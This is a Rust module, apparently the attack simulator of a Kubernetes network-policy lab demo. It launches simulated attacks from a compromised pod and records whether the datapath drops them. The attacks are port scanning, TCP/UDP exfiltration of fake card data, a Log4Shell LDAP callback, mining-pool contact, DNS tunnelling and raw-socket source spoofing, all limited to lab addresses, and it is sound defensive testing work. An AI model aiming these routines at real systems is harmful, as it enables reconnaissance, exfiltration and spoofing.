//! Attacks a compromised pod makes next, run from inside its network namespace: for the lab
//! demo to show what Palisade's datapath does to them (drops them in enforce mode, records
//! them as would-deny in monitor mode, lets them through and records them in learn mode).
//!
//! Each attack runs on a thread that has entered the attacker pod's namespace (as
//! [`Lab::probe_one`] does), with short, bounded timeouts, and returns what the attacker saw
//! ([`Outcome`]): connected, refused (a reset or an ICMP error came back) or timed out (what
//! a dropping datapath looks like). That is the attacker's view only; whether the datapath
//! judged the attempt is in the agent's flow records.
//!
//! Every attack is aimed only at the lab: the target must be an address of one of its pods,
//! external hosts, services or its node, and a spoofed source must be an address whose
//! replies stay inside the lab (the pod ranges or the documentation ranges its external
//! hosts use). A pod is never its own target.
//!
//! On the wire:
//! - [`lateral`]: TCP connect, a 32-byte line, its echo ([`probe::probe`]).
//! - [`port_scan`]: TCP connect scan (SYN, then the handshake is completed and the socket
//!   closed); [`SCAN_PARALLELISM`] ports at a time.
//! - [`exfiltrate_tcp`]: one connection carrying N bytes of fake card records;
//!   [`exfiltrate_udp`]: N numbered datagrams on one socket (one connection).
//! - [`ldap_callback`]: TCP to port 389 and an LDAP anonymous simple bindRequest, as a JVM
//!   does after a Log4Shell `${jndi:ldap://...}` lookup.
//! - [`mining_pool`]: TCP and a Stratum `mining.subscribe` JSON line.
//! - [`dns_tunnel`]: A queries for `<30..60 hex chars>.<domain>`, each from a new UDP socket
//!   (a new source port: a new connection each); [`DNS_BATCH`] in flight at a time.
//! - [`spoofed`]: UDP datagrams in hand-built IPv4 or IPv6 headers (a raw `IPPROTO_RAW`
//!   socket, which implies `IP_HDRINCL`/`IPV6_HDRINCL`) whose source is not the pod's;
//!   needs `CAP_NET_RAW`.

use std::{
    collections::BTreeSet,
    fmt::{self, Write as _},
    io::{ErrorKind, Read as _, Write as _},
    net::{IpAddr, Ipv4Addr, Ipv6Addr, Shutdown, SocketAddr, TcpStream, UdpSocket},
    sync::{
        Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    time::{Duration, Instant},
};

use ipnet::IpNet;
use rand::Rng;
use serde::{Deserialize, Serialize};
use simple_dns::{CLASS, Name, Packet, PacketFlag, QCLASS, QTYPE, Question, TYPE};
use socket2::{Domain, SockAddr, Socket, Type};

use super::{
    Lab, Pod,
    error::{Error, Result},
    plan::{self, GATEWAY_V4},
    probe::{self, ProbeResult},
    topology::Protocol,
};
use crate::netns;

/// How long an attack waits for a connection, an answer or the next byte of one.
pub const TIMEOUT: Duration = probe::DEFAULT_TIMEOUT;
/// Ports a scan tries at once: 100 ports take about seven per-port timeouts.
pub const SCAN_PARALLELISM: usize = 16;
/// DNS queries in flight at once (each holds a socket).
pub const DNS_BATCH: usize = 64;
/// Spoofed datagrams sent per attack.
pub const SPOOFED_PACKETS: usize = 3;
/// The LDAP port a Log4Shell payload (`${jndi:ldap://host/a}`) calls back to.
pub const LDAP_PORT: u16 = 389;
/// The port Stratum mining pools usually listen on.
pub const STRATUM_PORT: u16 = 3333;

/// At most this much is exfiltrated over TCP in one attack (it is held in memory).
pub const MAX_EXFILTRATE_BYTES: usize = 64 << 20;
/// At most this many datagrams, or DNS queries, in one attack.
pub const MAX_DATAGRAMS: usize = 10_000;
/// The largest UDP payload over IPv4 (IPv6 allows 20 bytes more; one limit keeps it simple).
pub const MAX_DATAGRAM_SIZE: usize = 65_507;
/// An exfiltrated datagram starts with its number and the attack's nonce.
const DATAGRAM_HEADER: usize = 8;

/// LDAPv3 BindRequest, message 1, anonymous simple bind (empty name, empty password), BER.
pub const LDAP_ANONYMOUS_BIND: [u8; 14] = [
    0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00,
];

/// Which attack an [`Outcome`] is from.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    Lateral,
    PortScan,
    ExfiltrateTcp,
    ExfiltrateUdp,
    LdapCallback,
    MiningPool,
    DnsTunnel,
    Spoofed,
}

impl Attack {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Lateral => "lateral",
            Self::PortScan => "port-scan",
            Self::ExfiltrateTcp => "exfiltrate-tcp",
            Self::ExfiltrateUdp => "exfiltrate-udp",
            Self::LdapCallback => "ldap-callback",
            Self::MiningPool => "mining-pool",
            Self::DnsTunnel => "dns-tunnel",
            Self::Spoofed => "spoofed",
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// What the attacker saw of one attack. `succeeded + refused + timed_out + failed ==
/// attempts`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Outcome {
    pub attack: Attack,
    /// The attacker pod, `namespace/name`.
    pub from: String,
    /// Where the attack went (a scan's port is 0: see [`Scan::ports`]).
    pub target: SocketAddr,
    /// Connections, datagrams, queries, ports or spoofed packets tried.
    pub attempts: usize,
    /// Those that got what the attacker wanted; each attack's documentation says what that is.
    pub succeeded: usize,
    /// A TCP reset or an ICMP error came back: something answered, nobody listens.
    pub refused: usize,
    /// No answer in time: what a dropping datapath looks like.
    pub timed_out: usize,
    /// Anything else (no route, a socket error, a wrong echo); see `detail`.
    pub failed: usize,
    /// Payload bytes sent and received, where the attack counts them (exfiltration,
    /// callbacks, queries, spoofed datagrams); 0 for [`lateral`] and [`port_scan`].
    pub bytes_sent: u64,
    pub bytes_received: u64,
    /// What happened, for people.
    pub detail: String,
}

impl Outcome {
    fn new(attack: Attack, from: &Pod, target: SocketAddr) -> Self {
        Self {
            attack,
            from: from.name.clone(),
            target,
            attempts: 0,
            succeeded: 0,
            refused: 0,
            timed_out: 0,
            failed: 0,
            bytes_sent: 0,
            bytes_received: 0,
            detail: String::new(),
        }
    }

    /// Count one attempt: `Ok` succeeded, the rest by kind.
    fn count(&mut self, result: &ProbeResult) {
        self.attempts += 1;
        match result {
            ProbeResult::Ok => self.succeeded += 1,
            ProbeResult::Refused => self.refused += 1,
            ProbeResult::Timeout => self.timed_out += 1,
            ProbeResult::Error(_) => self.failed += 1,
        }
    }

    /// Did every attempt fail (the attack was stopped, as the attacker sees it)?
    pub fn blocked(&self) -> bool {
        self.succeeded == 0
    }
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} from {} to ", self.attack, self.from)?;
        // A scan's target has no port.
        if self.target.port() == 0 {
            write!(f, "{}", self.target.ip())?;
        } else {
            write!(f, "{}", self.target)?;
        }
        write!(f, ": {}/{} succeeded", self.succeeded, self.attempts)?;
        for (n, what) in [
            (self.refused, "refused"),
            (self.timed_out, "timed out"),
            (self.failed, "failed"),
        ] {
            if n > 0 {
                write!(f, ", {n} {what}")?;
            }
        }
        write!(f, " ({})", self.detail)
    }
}

/// What a scan found on one port (nmap's words: a refused port is "closed").
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "state", content = "detail", rename_all = "lowercase")]
pub enum PortState {
    /// The handshake completed.
    Open,
    /// A reset came back: reachable, nobody listens.
    Refused,
    /// No answer in time.
    Filtered,
    /// Anything else (an ICMP unreachable, a socket error).
    Error(String),
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScannedPort {
    pub port: u16,
    #[serde(flatten)]
    pub state: PortState,
}

/// A port scan: the summary (an open port is a success) and each port, in port order.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Scan {
    pub outcome: Outcome,
    pub ports: Vec<ScannedPort>,
}

impl Scan {
    /// The open ports.
    pub fn open(&self) -> Vec<u16> {
        self.ports
            .iter()
            .filter(|p| p.state == PortState::Open)
            .map(|p| p.port)
            .collect()
    }
}

/// Lateral movement: open TCP `to:port` and exchange a line (the lab's [`probe::probe`]).
/// Succeeded: connected and the line came back.
pub fn lateral(lab: &Lab, from_pod: &str, to: IpAddr, port: u16) -> Result<Outcome> {
    let attack = Attack::Lateral;
    let pod = lab.pod(from_pod)?;
    let target = SocketAddr::new(to, port);
    check_target(lab, attack, pod, target)?;
    let result = in_pod(pod, || probe::probe(target, Protocol::Tcp, TIMEOUT))?;
    let mut outcome = Outcome::new(attack, pod, target);
    outcome.count(&result);
    outcome.detail = match &result {
        ProbeResult::Ok => "connected, the line came back".into(),
        other => describe(other),
    };
    Ok(outcome)
}

/// TCP connect scan of `ports` on `target`, [`SCAN_PARALLELISM`] at a time, each given
/// `per_port_timeout`. Ports are tried once each, in no particular order. Succeeded: open.
pub fn port_scan(
    lab: &Lab,
    from_pod: &str,
    target: IpAddr,
    ports: impl IntoIterator<Item = u16>,
    per_port_timeout: Duration,
) -> Result<Scan> {
    let attack = Attack::PortScan;
    let pod = lab.pod(from_pod)?;
    let ports: Vec<u16> = ports
        .into_iter()
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    if ports.contains(&0) {
        return Err(invalid(attack, pod, "port 0 cannot be scanned".into()));
    }
    if per_port_timeout.is_zero() {
        return Err(invalid(attack, pod, "the per-port timeout is zero".into()));
    }
    check_target(lab, attack, pod, SocketAddr::new(target, 1))?;
    let states = in_pod(pod, || scan(target, &ports, per_port_timeout))?;
    let mut outcome = Outcome::new(attack, pod, SocketAddr::new(target, 0));
    let ports: Vec<ScannedPort> = ports
        .into_iter()
        .zip(states)
        .map(|(port, state)| ScannedPort { port, state })
        .collect();
    for p in &ports {
        outcome.count(&match &p.state {
            PortState::Open => ProbeResult::Ok,
            PortState::Refused => ProbeResult::Refused,
            PortState::Filtered => ProbeResult::Timeout,
            PortState::Error(e) => ProbeResult::Error(e.clone()),
        });
    }
    let open: Vec<String> = ports
        .iter()
        .filter(|p| p.state == PortState::Open)
        .map(|p| p.port.to_string())
        .collect();
    outcome.detail = format!(
        "{} ports: open [{}], {} refused, {} filtered, {} errors",
        outcome.attempts,
        open.join(", "),
        outcome.refused,
        outcome.timed_out,
        outcome.failed
    );
    Ok(Scan { outcome, ports })
}

fn scan(target: IpAddr, ports: &[u16], timeout: Duration) -> Vec<PortState> {
    let next = AtomicUsize::new(0);
    let states: Vec<Mutex<Option<PortState>>> = ports.iter().map(|_| Mutex::new(None)).collect();
    // Threads spawned here inherit the pod's namespace from this thread.
    std::thread::scope(|scope| {
        for _ in 0..ports.len().min(SCAN_PARALLELISM) {
            scope.spawn(|| {
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    let Some(port) = ports.get(i) else { return };
                    let state = connect_only(SocketAddr::new(target, *port), timeout);
                    *states[i].lock().expect("no worker panics holding it") = Some(state);
                }
            });
        }
    });
    states
        .into_iter()
        .map(|s| {
            s.into_inner()
                .expect("no worker panics holding it")
                .expect("every port was tried")
        })
        .collect()
}

fn connect_only(addr: SocketAddr, timeout: Duration) -> PortState {
    let connect = || -> std::io::Result<()> {
        let socket = Socket::new(Domain::for_address(addr), Type::STREAM, None)?;
        socket.connect_timeout(&addr.into(), timeout)
    };
    match connect() {
        Ok(()) => PortState::Open,
        Err(e) => match e.kind() {
            ErrorKind::ConnectionRefused => PortState::Refused,
            ErrorKind::TimedOut | ErrorKind::WouldBlock => PortState::Filtered,
            _ => PortState::Error(e.to_string()),
        },
    }
}

/// Exfiltration over TCP: one connection carrying `bytes` bytes of fake card records, read
/// back as the lab's servers echo them. Succeeded: connected and every byte came back
/// unchanged.
pub fn exfiltrate_tcp(
    lab: &Lab,
    from_pod: &str,
    target: SocketAddr,
    bytes: usize,
) -> Result<Outcome> {
    let attack = Attack::ExfiltrateTcp;
    let pod = lab.pod(from_pod)?;
    if bytes == 0 || bytes > MAX_EXFILTRATE_BYTES {
        return Err(invalid(
            attack,
            pod,
            format!("{bytes} bytes: between 1 and {MAX_EXFILTRATE_BYTES}"),
        ));
    }
    check_target(lab, attack, pod, target)?;
    let data = card_records(bytes);
    let (result, sent, received) = in_pod(pod, || send_and_read_back(target, &data, TIMEOUT))?;
    let mut outcome = Outcome::new(attack, pod, target);
    outcome.count(&result);
    outcome.bytes_sent = sent as u64;
    outcome.bytes_received = received as u64;
    outcome.detail = match &result {
        ProbeResult::Ok => format!("connected, sent {sent} bytes, all came back"),
        ProbeResult::Error(e) if sent > 0 => {
            format!("connected, sent {sent} of {bytes} bytes, {received} came back: {e}")
        }
        other => describe(other),
    };
    Ok(outcome)
}

/// Write `data` while a second thread reads the echo (written first, a large payload would
/// stall: the server stops reading once its echoes fill our receive buffer). Returns the
/// result and the bytes sent and read back.
fn send_and_read_back(
    target: SocketAddr,
    data: &[u8],
    timeout: Duration,
) -> (ProbeResult, usize, usize) {
    let stream = match connect(target, timeout) {
        Ok(s) => s,
        Err(e) => return (classify(&e), 0, 0),
    };
    let Ok(mut reader) = stream.try_clone() else {
        return (ProbeResult::Error("cannot clone the socket".into()), 0, 0);
    };
    let mut writer = stream;
    std::thread::scope(|scope| {
        let read = scope.spawn(move || -> (usize, Option<String>) {
            let mut buf = vec![0u8; 64 << 10];
            let mut received = 0;
            while received < data.len() {
                match reader.read(&mut buf) {
                    Ok(0) => return (received, Some("closed before echoing everything".into())),
                    Ok(n) => {
                        if buf[..n] != data[received..(received + n).min(data.len())] {
                            return (received, Some("the echo differs from what was sent".into()));
                        }
                        received += n;
                    }
                    Err(e) => return (received, Some(e.to_string())),
                }
            }
            (received, None)
        });
        let mut sent = 0;
        let mut write_error = None;
        for chunk in data.chunks(16 << 10) {
            match writer.write_all(chunk) {
                Ok(()) => sent += chunk.len(),
                Err(e) => {
                    write_error = Some(e.to_string());
                    // Unblocks the reader.
                    let _ = writer.shutdown(Shutdown::Both);
                    break;
                }
            }
        }
        let (received, read_error) = read.join().expect("the reader does not panic");
        let _ = writer.shutdown(Shutdown::Both);
        let result = match write_error.or(read_error) {
            None => ProbeResult::Ok,
            Some(e) => ProbeResult::Error(e),
        };
        (result, sent, received)
    })
}

/// Exfiltration over UDP: `datagrams` numbered datagrams of `size` bytes on one connected
/// socket (one connection), then echoes are counted until [`TIMEOUT`] after the last.
/// Succeeded: a datagram whose echo came back.
pub fn exfiltrate_udp(
    lab: &Lab,
    from_pod: &str,
    target: SocketAddr,
    datagrams: usize,
    size: usize,
) -> Result<Outcome> {
    let attack = Attack::ExfiltrateUdp;
    let pod = lab.pod(from_pod)?;
    if datagrams == 0 || datagrams > MAX_DATAGRAMS {
        return Err(invalid(
            attack,
            pod,
            format!("{datagrams} datagrams: between 1 and {MAX_DATAGRAMS}"),
        ));
    }
    if !(DATAGRAM_HEADER..=MAX_DATAGRAM_SIZE).contains(&size) {
        return Err(invalid(
            attack,
            pod,
            format!("{size}-byte datagrams: between {DATAGRAM_HEADER} and {MAX_DATAGRAM_SIZE}"),
        ));
    }
    check_target(lab, attack, pod, target)?;
    let results = in_pod(pod, || udp_burst(target, datagrams, size, TIMEOUT))?;
    let mut outcome = Outcome::new(attack, pod, target);
    for r in &results.results {
        outcome.count(r);
    }
    outcome.bytes_sent = (results.sent * size) as u64;
    outcome.bytes_received = (outcome.succeeded * size) as u64;
    outcome.detail = match &results.error {
        Some(e) => format!("sent {} datagrams: {e}", results.sent),
        None => format!(
            "sent {} datagrams of {size} bytes, {} echoed",
            results.sent, outcome.succeeded
        ),
    };
    Ok(outcome)
}

struct Burst {
    /// One per datagram.
    results: Vec<ProbeResult>,
    sent: usize,
    /// Why the burst stopped early, or could not start.
    error: Option<String>,
}

fn udp_burst(target: SocketAddr, datagrams: usize, size: usize, timeout: Duration) -> Burst {
    let mut burst = Burst {
        results: vec![ProbeResult::Timeout; datagrams],
        sent: 0,
        error: None,
    };
    let nonce: u32 = rand::random();
    let socket = match UdpSocket::bind(unspecified(target)).and_then(|s| {
        s.connect(target)?;
        Ok(s)
    }) {
        Ok(s) => s,
        Err(e) => {
            burst.results = vec![classify(&e); datagrams];
            burst.error = Some(e.to_string());
            return burst;
        }
    };
    let mut refused = false;
    let mut datagram = vec![0u8; size];
    for (i, byte) in datagram.iter_mut().enumerate().skip(DATAGRAM_HEADER) {
        *byte = b"palisade-exfiltrate "[i % 20];
    }
    for seq in 0..datagrams {
        datagram[..4].copy_from_slice(&(seq as u32).to_be_bytes());
        datagram[4..8].copy_from_slice(&nonce.to_be_bytes());
        let mut sent = socket.send(&datagram);
        if matches!(&sent, Err(e) if e.kind() == ErrorKind::ConnectionRefused) {
            // The ICMP error an earlier datagram drew, reported once: this one was not sent.
            refused = true;
            sent = socket.send(&datagram);
        }
        match sent {
            Ok(_) => burst.sent += 1,
            Err(e) => {
                burst.results[seq] = classify(&e);
                burst.error.get_or_insert_with(|| e.to_string());
            }
        }
    }
    let mut echoed = vec![false; datagrams];
    let mut buf = vec![0u8; size + 1];
    let until = Instant::now() + timeout;
    let mut left = burst.sent;
    while left > 0 {
        let wait = until.saturating_duration_since(Instant::now());
        if wait.is_zero() || socket.set_read_timeout(Some(wait)).is_err() {
            break;
        }
        match socket.recv(&mut buf) {
            Ok(n) if n == size && buf[4..8] == nonce.to_be_bytes() => {
                let seq = u32::from_be_bytes(buf[..4].try_into().expect("4 bytes")) as usize;
                if seq < datagrams && !echoed[seq] {
                    echoed[seq] = true;
                    burst.results[seq] = ProbeResult::Ok;
                    left -= 1;
                }
            }
            Ok(_) => {}
            Err(e) if e.kind() == ErrorKind::ConnectionRefused => refused = true,
            Err(_) => break,
        }
    }
    if refused {
        for r in &mut burst.results {
            if *r == ProbeResult::Timeout {
                *r = ProbeResult::Refused;
            }
        }
    }
    burst
}

/// A Log4Shell callback: TCP to `target:389` and an LDAP anonymous bindRequest
/// ([`LDAP_ANONYMOUS_BIND`]). Succeeded: the handshake completed (the JVM would go on to
/// fetch the attacker's class).
pub fn ldap_callback(lab: &Lab, from_pod: &str, target: IpAddr) -> Result<Outcome> {
    connect_and_say(
        lab,
        Attack::LdapCallback,
        from_pod,
        SocketAddr::new(target, LDAP_PORT),
        &LDAP_ANONYMOUS_BIND,
        "an LDAP bindRequest",
    )
}

/// A cryptominer reaching its pool: TCP to `target:port` (usually [`STRATUM_PORT`]) and a
/// Stratum `mining.subscribe` line ([`stratum_subscribe`]). Succeeded: the handshake
/// completed.
pub fn mining_pool(lab: &Lab, from_pod: &str, target: IpAddr, port: u16) -> Result<Outcome> {
    connect_and_say(
        lab,
        Attack::MiningPool,
        from_pod,
        SocketAddr::new(target, port),
        stratum_subscribe(1).as_bytes(),
        "a Stratum mining.subscribe",
    )
}

fn connect_and_say(
    lab: &Lab,
    attack: Attack,
    from_pod: &str,
    target: SocketAddr,
    message: &[u8],
    what: &str,
) -> Result<Outcome> {
    let pod = lab.pod(from_pod)?;
    check_target(lab, attack, pod, target)?;
    let said = in_pod(pod, || say(target, message, TIMEOUT))?;
    let mut outcome = Outcome::new(attack, pod, target);
    match said {
        Err(e) => {
            outcome.count(&classify(&e));
            outcome.detail = describe(&classify(&e));
        }
        Ok((sent, reply)) => {
            outcome.count(&ProbeResult::Ok);
            outcome.bytes_sent = sent as u64;
            outcome.bytes_received = reply.len() as u64;
            let answer = if reply.is_empty() {
                "no answer".to_owned()
            } else if reply == message {
                format!("{} bytes came back (an echo)", reply.len())
            } else {
                format!("{} bytes came back", reply.len())
            };
            outcome.detail = if sent == message.len() {
                format!("connected, sent {what} ({sent} bytes), {answer}")
            } else {
                format!("connected, but sending {what} failed after {sent} bytes")
            };
        }
    }
    Ok(outcome)
}

/// Connect, send `message`, read what comes back within `timeout` (up to its length, or
/// one read of a different answer). The connection counts even if the sending fails.
fn say(target: SocketAddr, message: &[u8], timeout: Duration) -> std::io::Result<(usize, Vec<u8>)> {
    let mut stream = connect(target, timeout)?;
    if stream.write_all(message).is_err() {
        return Ok((0, Vec::new()));
    }
    let mut reply = Vec::new();
    let mut buf = [0u8; 512];
    let until = Instant::now() + timeout;
    while reply.len() < message.len() {
        let wait = until.saturating_duration_since(Instant::now());
        if wait.is_zero() || stream.set_read_timeout(Some(wait)).is_err() {
            break;
        }
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => reply.extend_from_slice(&buf[..n]),
        }
        if !message.starts_with(&reply) {
            break;
        }
    }
    let _ = stream.shutdown(Shutdown::Both);
    Ok((message.len(), reply))
}

/// DNS tunnelling: `queries` A queries for `<30..60 hex chars>.<domain>` to `server`, each
/// from a new UDP socket, [`DNS_BATCH`] in flight at a time, each batch given [`TIMEOUT`].
/// Succeeded: a reply with the query's id came back (the lab's servers echo the query; a
/// real resolver would answer NXDOMAIN).
pub fn dns_tunnel(
    lab: &Lab,
    from_pod: &str,
    server: SocketAddr,
    domain: &str,
    queries: usize,
) -> Result<Outcome> {
    let attack = Attack::DnsTunnel;
    let pod = lab.pod(from_pod)?;
    if queries == 0 || queries > MAX_DATAGRAMS {
        return Err(invalid(
            attack,
            pod,
            format!("{queries} queries: between 1 and {MAX_DATAGRAMS}"),
        ));
    }
    if domain.trim_end_matches('.').is_empty() {
        return Err(invalid(attack, pod, "no domain to tunnel under".into()));
    }
    // The longest name this attack makes must be a valid one.
    let longest = format!("{}.{domain}", "0".repeat(TUNNEL_LABEL_MAX));
    if let Err(e) = Name::new(&longest) {
        return Err(invalid(
            attack,
            pod,
            format!("domain {domain:?} cannot carry a {TUNNEL_LABEL_MAX}-character label: {e}"),
        ));
    }
    check_target(lab, attack, pod, server)?;
    let rng = &mut rand::rng();
    let messages: Vec<(u16, Vec<u8>)> = (0..queries)
        .map(|_| {
            let id = rng.random();
            let query = dns_query(id, &tunnel_name(rng, domain)).expect("the name was checked");
            (id, query)
        })
        .collect();
    let replies = in_pod(pod, || {
        messages
            .chunks(DNS_BATCH)
            .flat_map(|batch| query_batch(server, batch, TIMEOUT))
            .collect::<Vec<_>>()
    })?;
    let mut outcome = Outcome::new(attack, pod, server);
    let mut responses = 0;
    for ((_, query), reply) in messages.iter().zip(&replies) {
        outcome.count(&reply.result);
        outcome.bytes_sent += if reply.sent { query.len() as u64 } else { 0 };
        outcome.bytes_received += reply.bytes as u64;
        responses += usize::from(reply.response);
    }
    outcome.detail = format!(
        "{} queries under {domain}, {} answered",
        outcome.attempts, outcome.succeeded
    );
    if outcome.succeeded > 0 {
        let echoes = outcome.succeeded - responses;
        let _ = write!(
            outcome.detail,
            " ({responses} DNS responses, {echoes} echoes of the query)"
        );
    }
    Ok(outcome)
}

struct Reply {
    result: ProbeResult,
    sent: bool,
    bytes: usize,
    /// The reply has the QR bit: a DNS response rather than the query echoed.
    response: bool,
}

/// Send each query from its own socket, then collect replies until `timeout`.
fn query_batch(server: SocketAddr, batch: &[(u16, Vec<u8>)], timeout: Duration) -> Vec<Reply> {
    let mut sockets = Vec::with_capacity(batch.len());
    let mut replies = Vec::with_capacity(batch.len());
    for (_, query) in batch {
        let sent = UdpSocket::bind(unspecified(server)).and_then(|s| {
            s.connect(server)?;
            s.set_nonblocking(true)?;
            s.send(query)?;
            Ok(s)
        });
        let (socket, result, sent) = match sent {
            Ok(s) => (Some(s), ProbeResult::Timeout, true),
            Err(e) => (None, classify(&e), false),
        };
        sockets.push(socket);
        replies.push(Reply {
            result,
            sent,
            bytes: 0,
            response: false,
        });
    }
    let until = Instant::now() + timeout;
    let mut buf = [0u8; 1500];
    loop {
        let mut waiting = 0;
        for ((socket, (id, _)), reply) in sockets.iter_mut().zip(batch).zip(&mut replies) {
            let Some(s) = socket else { continue };
            match s.recv(&mut buf) {
                Ok(n) if n >= 12 && buf[..2] == id.to_be_bytes() => {
                    reply.result = ProbeResult::Ok;
                    reply.bytes = n;
                    reply.response = buf[2] & 0x80 != 0;
                    *socket = None;
                }
                Ok(_) => waiting += 1,
                Err(e) if e.kind() == ErrorKind::WouldBlock => waiting += 1,
                Err(e) => {
                    reply.result = classify(&e);
                    *socket = None;
                }
            }
        }
        if waiting == 0 || Instant::now() >= until {
            return replies;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// Source spoofing: [`SPOOFED_PACKETS`] UDP datagrams from `spoofed_source` (a random port)
/// to `target`, in headers built by hand and sent on a raw socket (needs `CAP_NET_RAW`).
///
/// The echoes go to `spoofed_source`, which the pod does not own: it can never see them.
/// When the address belongs to another pod or external host of the lab, the attack listens
/// there instead, and succeeded counts the echoes that reached it (the target was fooled
/// into answering the victim); otherwise nothing is observable and no attempt succeeds.
pub fn spoofed(
    lab: &Lab,
    from_pod: &str,
    spoofed_source: IpAddr,
    target: SocketAddr,
) -> Result<Outcome> {
    let attack = Attack::Spoofed;
    let pod = lab.pod(from_pod)?;
    check_target(lab, attack, pod, target)?;
    check_spoofable(lab, pod, spoofed_source, target)?;
    let victim = owner_netns(lab, spoofed_source);

    // Listen where the echoes land first, so none is missed.
    let rng = &mut rand::rng();
    let mut source_port: u16 = rng.random_range(40_000..61_000);
    let listener = match &victim {
        Some(netns) => {
            let bound = netns::run_in(netns, || {
                let mut last = None;
                for _ in 0..8 {
                    match UdpSocket::bind(SocketAddr::new(spoofed_source, source_port)) {
                        Ok(s) => return Ok((s, source_port)),
                        Err(e) => last = Some(e),
                    }
                    source_port = rand::rng().random_range(40_000..61_000);
                }
                Err(last.expect("tried"))
            })
            .map_err(|source| Error::Netns {
                netns: netns.clone(),
                source,
            })?;
            match bound {
                Ok((socket, port)) => {
                    source_port = port;
                    Some(socket)
                }
                Err(e) => {
                    return Err(invalid(
                        attack,
                        pod,
                        format!("cannot listen at {spoofed_source} in {netns}: {e}"),
                    ));
                }
            }
        }
        None => None,
    };

    let payloads: Vec<Vec<u8>> = (0..SPOOFED_PACKETS)
        .map(|i| format!("palisade-spoof {i} {:08x}\n", rng.random::<u32>()).into_bytes())
        .collect();
    let packets: Vec<Vec<u8>> = payloads
        .iter()
        .map(|payload| match (spoofed_source, target.ip()) {
            (IpAddr::V4(src), IpAddr::V4(dst)) => {
                ipv4_udp(src, dst, source_port, target.port(), rng.random(), payload)
            }
            (IpAddr::V6(src), IpAddr::V6(dst)) => {
                ipv6_udp(src, dst, source_port, target.port(), payload)
            }
            _ => unreachable!("families were checked"),
        })
        .collect();
    let sent = in_pod(pod, || send_raw(target.ip(), &packets))?;

    let mut outcome = Outcome::new(attack, pod, target);
    let mut echoed = vec![false; payloads.len()];
    if let Some(listener) = &listener {
        let until = Instant::now() + TIMEOUT;
        let mut buf = [0u8; 256];
        while echoed.iter().any(|e| !e) {
            let wait = until.saturating_duration_since(Instant::now());
            if wait.is_zero() || listener.set_read_timeout(Some(wait)).is_err() {
                break;
            }
            match listener.recv_from(&mut buf) {
                Ok((n, from)) if from == target => {
                    if let Some(i) = payloads.iter().position(|p| **p == buf[..n]) {
                        echoed[i] = true;
                    }
                }
                Ok(_) => {}
                Err(_) => break,
            }
        }
    }
    for (result, echoed) in sent.iter().zip(&echoed) {
        outcome.count(&match result {
            Ok(()) if *echoed => ProbeResult::Ok,
            Ok(()) => ProbeResult::Timeout,
            Err(e) => ProbeResult::Error(e.clone()),
        });
    }
    let sent_ok = sent.iter().filter(|r| r.is_ok()).count();
    outcome.bytes_sent = payloads
        .iter()
        .zip(&sent)
        .filter(|(_, r)| r.is_ok())
        .map(|(p, _)| p.len() as u64)
        .sum();
    outcome.bytes_received = payloads
        .iter()
        .zip(&echoed)
        .filter(|(_, e)| **e)
        .map(|(p, _)| p.len() as u64)
        .sum();
    let source = SocketAddr::new(spoofed_source, source_port);
    let sending = match sent.iter().find_map(|r| r.as_ref().err()) {
        Some(e) => format!("sent {sent_ok} of {SPOOFED_PACKETS} datagrams from {source} ({e})"),
        None => format!("sent {sent_ok} datagrams from {source}"),
    };
    let seen = match &victim {
        Some(netns) => format!(
            "the pod cannot see the echoes (it does not own {spoofed_source}); {} reached \
             {spoofed_source} in {netns}",
            outcome.succeeded
        ),
        None => format!(
            "no echo can come back: neither the pod nor any other host of the lab owns \
             {spoofed_source}"
        ),
    };
    outcome.detail = format!("{sending}; {seen}");
    Ok(outcome)
}

/// Send each packet (a whole IP datagram) on a raw socket; one result per packet.
fn send_raw(dst: IpAddr, packets: &[Vec<u8>]) -> Vec<Result<(), String>> {
    let domain = match dst {
        IpAddr::V4(_) => Domain::IPV4,
        IpAddr::V6(_) => Domain::IPV6,
    };
    // IPPROTO_RAW implies IP_HDRINCL (and IPV6_HDRINCL): the kernel sends our header as is.
    let socket = match Socket::new(
        domain,
        Type::from(libc::SOCK_RAW),
        Some(libc::IPPROTO_RAW.into()),
    ) {
        Ok(s) => s,
        Err(e) => {
            let why = format!("raw socket (needs CAP_NET_RAW): {e}");
            return packets.iter().map(|_| Err(why.clone())).collect();
        }
    };
    let to = SockAddr::from(SocketAddr::new(dst, 0));
    packets
        .iter()
        .enumerate()
        .map(|(i, packet)| {
            if i > 0 {
                // Spread out a little, like retries.
                std::thread::sleep(Duration::from_millis(20));
            }
            socket
                .send_to(packet, &to)
                .map(|_| ())
                .map_err(|e| e.to_string())
        })
        .collect()
}

// ---- checks ----------------------------------------------------------------------------

fn invalid(attack: Attack, pod: &Pod, problem: String) -> Error {
    Error::Attack {
        attack: attack.as_str(),
        pod: pod.name.clone(),
        problem,
    }
}

/// Attacks go only to the lab: its pods, external hosts, services and node; never to the
/// attacker itself, and never to port 0.
fn check_target(lab: &Lab, attack: Attack, pod: &Pod, target: SocketAddr) -> Result<()> {
    let ip = target.ip();
    if target.port() == 0 {
        return Err(invalid(attack, pod, format!("{target}: port 0")));
    }
    if pod.addresses().contains(&ip) {
        return Err(invalid(
            attack,
            pod,
            format!("{ip} is the pod's own address: its traffic would not cross the datapath"),
        ));
    }
    let node = [IpAddr::from(GATEWAY_V4), IpAddr::from(plan::NODE_V6)];
    let in_lab = node.contains(&ip)
        || lab.pods().iter().any(|p| p.addresses().contains(&ip))
